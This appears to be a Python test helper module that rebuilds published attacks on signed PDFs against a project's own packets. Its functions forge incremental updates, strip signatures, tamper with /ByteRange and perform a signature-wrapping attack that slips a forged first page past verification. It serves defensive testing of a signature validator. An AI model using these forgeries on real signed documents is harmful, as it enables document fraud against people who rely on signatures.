"""Attacks on signed PDFs, rebuilt from their published descriptions against our own packets.

Each takes the bytes of a signed packet and returns changed bytes, as somebody without the key
could make them.
"""

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Change = Callable[[IncrementalPdfFileWriter], None]


def updated(data: bytes, change: Change) -> bytes:
    """Return the file with one more revision."""
    stream = BytesIO(data)
    writer = IncrementalPdfFileWriter(stream, strict=False)
    change(writer)
    writer.write_in_place()
    return stream.getvalue()


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    reference = writer.root["/Pages"]["/Kids"].raw_get(0)
    writer.mark_update(reference.reference)
    return reference.get_object()


def page_replaced(writer: IncrementalPdfFileWriter) -> None:
    stream = generic.StreamObject(stream_data=b"BT /F0 30 Tf 80 500 Td <0001> Tj ET")
    _first_page(writer)["/Contents"] = writer.add_object(stream)


def data_replaced(writer: IncrementalPdfFileWriter) -> None:
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    place = [str(name) for name in list(names)[::2]].index("packet-manifest.json")
    spec = names[2 * place + 1]
    spec["/EF"]["/F"] = writer.add_object(generic.StreamObject(stream_data=b'{"format":"x"}'))
    writer.mark_update(names.raw_get(2 * place + 1).reference)


def stamp_laid_over(writer: IncrementalPdfFileWriter) -> None:
    page = _first_page(writer)
    form = generic.StreamObject(
        {pdf_name("/Subtype"): pdf_name("/Form"), pdf_name("/BBox"): _numbers(0, 0, 200, 50)},
        stream_data=b"0 0 200 50 re f",
    )
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Stamp"),
            pdf_name("/Rect"): _numbers(80, 600, 280, 650),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(form)}),
        }
    )
    page["/Annots"] = generic.ArrayObject([*page["/Annots"], writer.add_object(annotation)])


def title_changed(writer: IncrementalPdfFileWriter) -> None:
    writer.set_info(
        writer.add_object(
            generic.DictionaryObject({pdf_name("/Title"): generic.pdf_string("别的材料")})
        ).reference
    )


def script_added(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/OpenAction"] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("1")}
    )
    writer.update_root()


def second_manifest(writer: IncrementalPdfFileWriter) -> None:
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    stream = writer.add_object(generic.StreamObject(stream_data=b"{}"))
    name = generic.pdf_string("packet-manifest.json")
    spec = generic.DictionaryObject(
        {
            pdf_name("/F"): name,
            pdf_name("/UF"): name,
            pdf_name("/EF"): generic.DictionaryObject(
                {pdf_name("/F"): stream, pdf_name("/UF"): stream}
            ),
        }
    )
    names.append(name)
    names.append(writer.add_object(spec))
    writer.update_root()


def page_added(writer: IncrementalPdfFileWriter) -> None:
    page = generic.DictionaryObject(
        {pdf_name("/Type"): pdf_name("/Page"), pdf_name("/MediaBox"): _numbers(0, 0, 595, 842)}
    )
    writer.insert_page(page)


def layers_added(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/OCProperties"] = generic.DictionaryObject()
    writer.update_root()


def link_swapped(writer: IncrementalPdfFileWriter) -> None:
    page = _first_page(writer)
    link = page["/Annots"][0]
    link["/Dest"] = generic.ArrayObject([generic.NullObject(), pdf_name("/Fit")])
    writer.mark_update(page["/Annots"].raw_get(0).reference)


def certificates_added(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/DSS"] = generic.DictionaryObject({pdf_name("/Certs"): generic.ArrayObject()})
    writer.update_root()


def value_removed(writer: IncrementalPdfFileWriter) -> None:
    field = writer.root["/AcroForm"]["/Fields"].raw_get(0)
    del field.get_object()["/V"]
    writer.mark_update(field.reference)


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(value) for value in values])


UPDATES: dict[str, Change] = {
    "A01 page content replaced": page_replaced,
    "A02 embedded data replaced": data_replaced,
    "A06 stamp laid over the page": stamp_laid_over,
    "A11 title changed": title_changed,
    "A13 script added": script_added,
    "A14 second manifest of the same name": second_manifest,
    "A15 page added": page_added,
    "A16 certificates added": certificates_added,
    "A17 layers added": layers_added,
    "A18 link leads elsewhere": link_swapped,
    "A19 signature value removed": value_removed,
}


def stripped(data: bytes) -> bytes:
    """A03: the signature taken out and the file written anew."""
    with pikepdf.open(BytesIO(data)) as pdf:
        del pdf.Root.AcroForm.Fields[0].V
        del pdf.Root.Perms
        written = BytesIO()
        pdf.save(written)
    return written.getvalue()


def rolled_back(data: bytes) -> bytes:
    """A12: cut back to what was there before the signature."""
    return data[: data.index(b"%%EOF") + 6]


def with_ranges(data: bytes, ranges: bytes) -> bytes:
    """Replace the numbers of /ByteRange, keeping the length of the file."""
    found = re.search(rb"/ByteRange \[[^\]]*\]", data)
    assert found
    new = b"/ByteRange " + ranges
    return data[: found.start()] + new.ljust(found.end() - found.start()) + data[found.end() :]


def ranges_of(data: bytes) -> tuple[int, int, int, int]:
    found = re.search(rb"/ByteRange \[ *(\d+) +(\d+) +(\d+) +(\d+) *\]", data)
    assert found
    first, length, second, rest = (int(part) for part in found.groups())
    return first, length, second, rest


def without_contents(data: bytes) -> bytes:
    """A07a: /Contents is there, and empty."""
    _first, length, second, _rest = ranges_of(data)
    return data[:length] + b"<" + b"0" * (second - length - 2) + b">" + data[second:]


def wrapped(data: bytes) -> bytes:
    """A20: the hole between the signed ranges is made larger and holds another page.

    Both signed stretches are kept byte for byte, the second one moved towards the end. The place
    where the moved end says its cross-reference table lies is now in the hole: there stands a new
    table, and behind it a signature object with the new ranges and another first page.
    """
    _first, length, second, rest = ranges_of(data)
    table_at = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    trailer = data[data.index(b"trailer", table_at) : data.rindex(b"startxref")]
    moved = table_at + 60_000
    entries = _entries(data, table_at)
    offsets = {n: o if o < second else o - second + moved for n, o in entries.items()}
    signature = max(n for n, o in entries.items() if o < length)
    page, number = _first_page_of(data)
    contents = 900
    drawing = b"BT /F0 30 Tf 80 500 Td <0001> Tj ET"
    objects = {
        signature: b"<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached %s"
        b"/ByteRange [0 %d %d %d] /Contents %s>>"
        % (_permission(data), length, moved, rest, data[length:second]),
        number: re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % contents, page),
        contents: b"<</Length %d>>\nstream\n%s\nendstream" % (len(drawing), drawing),
    }
    position = table_at + len(_table(offsets | dict.fromkeys(objects, 0), trailer))
    block = b""
    for key, body in objects.items():
        offsets[key] = position + len(block)
        block += b"%d 0 obj\n%s\nendobj\n" % (key, body)
    forged = data[:second].ljust(table_at) + _table(offsets, trailer) + block
    return forged.ljust(moved) + data[second:]


def _permission(data: bytes) -> bytes:
    found = re.search(rb"/Reference \[.*?\n>> \]", data, re.DOTALL)
    assert found
    return found[0]


def _entries(data: bytes, start: int) -> dict[int, int]:
    """Return object offsets of one cross-reference table."""
    found: dict[int, int] = {}
    lines = data[start : data.index(b"trailer", start)].split(b"\n")[1:]
    number = 0
    for line in lines:
        parts = line.split()
        if len(parts) == 2:
            number = int(parts[0])
        elif len(parts) == 3:
            if parts[2] == b"n":
                found[number] = int(parts[0])
            number += 1
    return found


def _table(offsets: dict[int, int], trailer: bytes) -> bytes:
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(offsets))
    return b"xref\n0 1\n0000000000 65535 f \n" + rows + trailer + b"startxref\n0\n"


def _first_page_of(data: bytes) -> tuple[bytes, int]:
    with pikepdf.open(BytesIO(data)) as pdf:
        number = pdf.pages[0].objgen[0]
    found = re.search(rb"\n%d 0 obj\n(<<.*?>>)\nendobj" % number, data, re.DOTALL)
    assert found
    return found[1], number
